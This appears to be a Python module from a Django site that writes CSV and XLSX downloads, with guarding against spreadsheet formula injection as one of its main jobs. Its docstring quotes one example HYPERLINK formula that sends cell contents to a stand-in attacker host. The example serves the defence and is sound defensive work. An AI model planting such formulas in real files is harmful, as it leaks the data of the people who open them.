"""Writing CSV and XLSX files that are safe to open: the one writer for every file the site
produces (public downloads, the completeness overview, the fee list) and the cell rule the
admin's django-import-export formats share.

Any text a user typed may end up in a cell. A spreadsheet runs text that begins with =, +, -
or @ (and, in some programs, a tab or carriage return followed by one) as a formula: a comment
`=HYPERLINK("http://evil.example/?"&A1,"klick")` would become a live link that leaks the
sheet. Such text gets a leading apostrophe, which every spreadsheet shows as plain text. Real
numbers are written as numbers (in CSV with the decimal comma Swedish Excel expects), so they
are never touched.

Domain-free: both apps import it, it imports neither (only Django's HttpResponse for
`spreadsheet_response`). common.streaming writes large CSV files in the same dialect.
"""

import csv
import datetime
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from decimal import Decimal

from django.http import HttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# A plain signed number written as text (the admin's exports render numbers as text): a
# spreadsheet reads it as the number, never as a formula, so it stays as it is.
PLAIN_NUMBER = re.compile(r"[-+]?\d+(?:[.,]\d+)?")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CONTENT_TYPES = {"csv": CSV_CONTENT_TYPE, "xlsx": XLSX_CONTENT_TYPE}

# Column widths in characters: wide enough for codes and numbers, capped for long texts.
MIN_WIDTH = 6
MAX_WIDTH = 60


def safe_text(text: str) -> str:
    """Text a spreadsheet would read as a formula, made plain text with a leading apostrophe."""
    if text.startswith(FORMULA_PREFIXES) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def text_from_cell(text: str) -> str:
    """The text a safe_text cell stood for: a file the site wrote reads back as it was typed."""
    if text.startswith("'") and text[1:].startswith(FORMULA_PREFIXES):
        return text[1:]
    return text


def safe_cell(value):
    """A cell value that opens as what it is: text neutralised, everything else unchanged."""
    if isinstance(value, str):
        return safe_text(value)
    return value


def _number_text(value: Decimal | float | int) -> str:
    """2.4700 -> "2,47", 1250 -> "1250": the number without padding, with a decimal comma."""
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        value = Decimal(repr(value))
    return format(value.normalize(), "f").replace(".", ",")


def csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return _number_text(value)
    if isinstance(value, datetime.date):
        return value.isoformat()
    return safe_text(str(value))


# The byte-order mark that tells Excel the file is UTF-8.
CSV_BOM = "\ufeff"


def csv_writer(out):
    """The site's CSV dialect, for every CSV it writes (whole or streamed): semicolons and
    CRLF line ends, what Excel with Swedish settings opens directly."""
    return csv.writer(out, delimiter=";", lineterminator="\r\n")


def csv_bytes(rows: Iterable[Sequence], *, header: Sequence | None = None) -> bytes:
    """Semicolons, decimal commas and UTF-8 with a byte-order mark: what Excel with Swedish
    settings opens directly (and what the site's import reads back)."""
    out = io.StringIO()
    writer = csv_writer(out)
    if header is not None:
        writer.writerow([csv_cell(str(cell)) for cell in header])
    for row in rows:
        writer.writerow([csv_cell(cell) for cell in row])
    return (CSV_BOM + out.getvalue()).encode("utf-8")


@dataclass
class Sheet:
    """One worksheet: a title, an optional bold header row (frozen), and the rows."""

    title: str
    rows: Iterable[Sequence]
    header: Sequence | None = None
    # Rows written in bold before the header, e.g. a title line.
    preamble: list[Sequence] = field(default_factory=list)


# Control characters cannot be stored in XLSX at all (openpyxl's ILLEGAL_CHARACTERS_RE).
ILLEGAL_CHARACTERS = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


def _xlsx_value(value):
    if isinstance(value, str):
        # Show that something was there.
        return safe_text(ILLEGAL_CHARACTERS.sub("\ufffd", value))
    if value is None or isinstance(value, int | float | Decimal | datetime.date):
        return value
    return _xlsx_value(str(value))


# What str.splitlines splits on.
_LINE_BREAKS = re.compile("[\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029]")


def _width(value) -> int:
    if value is None:
        return 0
    if isinstance(value, datetime.date):
        return 10
    if isinstance(value, Decimal | float):
        return len(_number_text(value))
    text = str(value)
    if not _LINE_BREAKS.search(text):
        return len(text)  # the common case, without splitting
    return max((len(line) for line in text.splitlines()), default=0)


# The workbook's fixed parts. The sheets themselves are written as XML text directly: openpyxl
# built a cell object and an element tree per cell, which made an indicator's download (8 700
# rows) take over a second; the format needs no more than this.
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_STYLES = (
    _XML + f'<styleSheet xmlns="{_MAIN}">'
    '<numFmts count="1"><numFmt numFmtId="164" formatCode="yyyy-mm-dd"/></numFmts>'
    '<fonts count="2"><font><sz val="11"/><name val="Calibri"/></font>'
    '<font><b/><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="4"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/>'
    '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="164" fontId="1" fillId="0" borderId="0" xfId="0" applyNumberFormat="1" '
    'applyFont="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
)
_BOLD, _DATE = 1, 2  # style indexes above: bold adds 1, a date adds 2
_EPOCH = datetime.datetime(1899, 12, 30)
_ESCAPES = str.maketrans({"&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;"})


def _column_letter(index: int) -> str:
    letters = ""
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def _xlsx_cell(reference: str, value, strong: bool) -> str:
    return f'<c r="{reference}' + _cell_tail(value, strong)


def _cell_tail(value, strong: bool) -> str:
    """A cell's XML after its reference (`<c r="A1` + this): the same for every cell with this
    value and style, so a sheet writes it once per distinct text (see _sheet_xml)."""
    style = _BOLD if strong else 0
    if isinstance(value, bool):
        return f'" t="b"{_s(style)}><v>{int(value)}</v></c>'
    if isinstance(value, int | float | Decimal):
        number = format(value, "f") if isinstance(value, Decimal) else repr(value)
        return f'"{_s(style)}><v>{number}</v></c>'
    if isinstance(value, datetime.date):
        moment = (
            value
            if isinstance(value, datetime.datetime)
            else datetime.datetime(value.year, value.month, value.day)
        )
        serial = (moment.replace(tzinfo=None) - _EPOCH) / datetime.timedelta(days=1)
        number = str(int(serial)) if serial == int(serial) else repr(serial)
        return f'"{_s(style + _DATE)}><v>{number}</v></c>'
    text = value.translate(_ESCAPES)
    space = ' xml:space="preserve"' if text != text.strip() else ""
    return f'" t="inlineStr"{_s(style)}><is><t{space}>{text}</t></is></c>'


def _s(style: int) -> str:
    return f' s="{style}"' if style else ""


# Values whose equal ones always write the same cell: a sheet keeps their XML and width once.
# (Not Decimal or float: 1.0 == 1.00 and 0.0 == -0.0, yet they are written differently.)
_REPEATABLE = (str, int, bool)
# Values whose text tells every digit, the sign and the exponent: equal texts, equal cells.
_BY_TEXT = (Decimal, float)


def _sheet_xml(spec: Sheet) -> str:
    widths: list[int] = []
    body: list[str] = []
    number = 0
    letters: list[str] = []
    # (class, value, bold) -> (the cell's XML after its reference or None when it has none, its
    # width): an indicator's download repeats the same names, codes, units and years in every
    # row, and neutralising, escaping and measuring a text once rather than per cell is what
    # makes 8 700 rows x 13 columns cheap.
    known: dict[tuple, tuple[str | None, int]] = {}

    def cell(value, strong: bool = False) -> tuple[str | None, int]:
        key = (value.__class__, value, strong) if value.__class__ in _REPEATABLE else None
        if key is not None:
            hit = known.get(key)
            if hit is not None:
                return hit
        value = _xlsx_value(value)
        found = (None if value is None else _cell_tail(value, strong), _width(value))
        if key is not None:
            known[key] = found
        return found

    def add(row, *, strong=False, measure=True):
        nonlocal number
        number += 1
        row_number = str(number)
        cells = []
        for index, value in enumerate(row):
            if index == len(letters):
                letters.append(_column_letter(index + 1))
            tail, width = cell(value, strong) if value is not None else (None, 0)
            if tail is not None:
                cells.append(f'<c r="{letters[index]}{row_number}{tail}')
            if measure:
                if index == len(widths):
                    widths.append(width)
                elif width > widths[index]:
                    widths[index] = width
        if cells:
            body.append(f'<row r="{row_number}">{"".join(cells)}</row>')

    for row in spec.preamble:
        # A title line may be long; it is not what the column holds.
        add(row, strong=True, measure=False)
    frozen = spec.header is not None and not spec.preamble
    if spec.header is not None:
        add([str(cell) for cell in spec.header], strong=True)
    rows = spec.rows if isinstance(spec.rows, list) else list(spec.rows)
    if rows and len({len(row) for row in rows}) == 1:
        number = _add_columns(
            rows, first=number + 1, cell=cell, letters=letters, widths=widths, body=body
        )
    else:
        for row in rows:
            add(row)
    # The header stays in view while scrolling.
    view = (
        '<sheetViews><sheetView workbookViewId="0"><pane ySplit="1" topLeftCell="A2" '
        'activePane="bottomLeft" state="frozen"/><selection pane="bottomLeft" activeCell="A2" '
        'sqref="A2"/></sheetView></sheetViews>'
        if frozen
        else '<sheetViews><sheetView workbookViewId="0"/></sheetViews>'
    )
    columns = "".join(
        f'<col min="{index}" max="{index}" width="{min(MAX_WIDTH, max(MIN_WIDTH, width + 2))}" '
        'customWidth="1"/>'
        for index, width in enumerate(widths, start=1)
    )
    return (
        _XML + f'<worksheet xmlns="{_MAIN}" xmlns:r="{_REL}">{view}'
        f"{f'<cols>{columns}</cols>' if columns else ''}"
        f"<sheetData>{''.join(body)}</sheetData></worksheet>"
    )


def _add_columns(rows: list, *, first: int, cell, letters, widths, body) -> int:
    """_sheet_xml's rows when all are equally long, column by column: a column of texts and
    whole numbers writes each distinct value once and maps the rest (the cells come out as the
    row by row way writes them). Returns the last row's number."""
    tails_by_column = []
    for index, column in enumerate(zip(*rows, strict=True)):
        if index == len(letters):
            letters.append(_column_letter(index + 1))
        classes = set(map(type, column))
        if classes <= {str, int, type(None)}:  # equal values write equal cells
            found = {
                value: cell(value) if value is not None else (None, 0) for value in set(column)
            }
            tails = list(map(found.__getitem__, column))
            width = max(w for _tail, w in found.values())
        else:
            # Numbers with decimals: equal ones by their text (1.0 and 1.00, 0 and -0 stay
            # apart), so a column of averages, the same per year in every row, is written once
            # per year rather than once per row.
            found, tails = {}, []
            for value in column:
                if value.__class__ in _BY_TEXT:
                    key = (value.__class__, str(value))
                    hit = found.get(key)
                    if hit is None:
                        hit = found[key] = cell(value)
                    tails.append(hit)
                else:
                    tails.append(cell(value) if value is not None else (None, 0))
            width = max(w for _tail, w in tails)
        tails_by_column.append([tail for tail, _w in tails])
        if index == len(widths):
            widths.append(width)
        elif width > widths[index]:
            widths[index] = width
    for number, tails in enumerate(zip(*tails_by_column, strict=True), start=first):
        row_number = str(number)
        cells = "".join(
            [
                f'<c r="{letter}{row_number}{tail}'
                # letters may run longer than these rows: a header can be wider
                for letter, tail in zip(letters, tails, strict=False)
                if tail is not None
            ]
        )
        if cells:
            body.append(f'<row r="{row_number}">{cells}</row>')
    return first - 1 + len(rows)


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """An XLSX workbook: numbers as numbers, text neutralised, columns as wide as their
    contents (within limits), bold header rows, the header frozen."""
    import zipfile

    titles = [spec.title[:31] for spec in sheets]
    count = len(sheets)
    content_types = (
        _XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/styles.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
        + "".join(
            f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            for n in range(1, count + 1)
        )
        + "</Types>"
    )
    root_rels = (
        _XML + f'<Relationships xmlns="{_PACKAGE_REL}"><Relationship Id="rId1" '
        f'Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    workbook = (
        _XML + f'<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><bookViews><workbookView/>'
        "</bookViews><sheets>"
        + "".join(
            f'<sheet name="{title.translate(_ESCAPES)}" sheetId="{n}" r:id="rId{n}"/>'
            for n, title in enumerate(titles, start=1)
        )
        + "</sheets></workbook>"
    )
    workbook_rels = (
        _XML
        + f'<Relationships xmlns="{_PACKAGE_REL}">'
        + "".join(
            f'<Relationship Id="rId{n}" Type="{_REL}/worksheet" Target="worksheets/sheet{n}.xml"/>'
            for n in range(1, count + 1)
        )
        + f'<Relationship Id="rId{count + 1}" Type="{_REL}/styles" Target="styles.xml"/>'
        "</Relationships>"
    )
    buffer = io.BytesIO()
    # Level 1: the XML compresses nearly as well, several times faster than the default.
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", root_rels)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", workbook_rels)
        archive.writestr("xl/styles.xml", _STYLES)
        for n, spec in enumerate(sheets, start=1):
            archive.writestr(f"xl/worksheets/sheet{n}.xml", _sheet_xml(spec))
    return buffer.getvalue()


def spreadsheet_response(content: bytes, *, filename: str) -> HttpResponse:
    """A download of a file written above, as an attachment; the content type follows the
    file name's extension (.csv or .xlsx)."""
    extension = filename.rsplit(".", 1)[-1]
    response = HttpResponse(content, content_type=CONTENT_TYPES[extension])
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
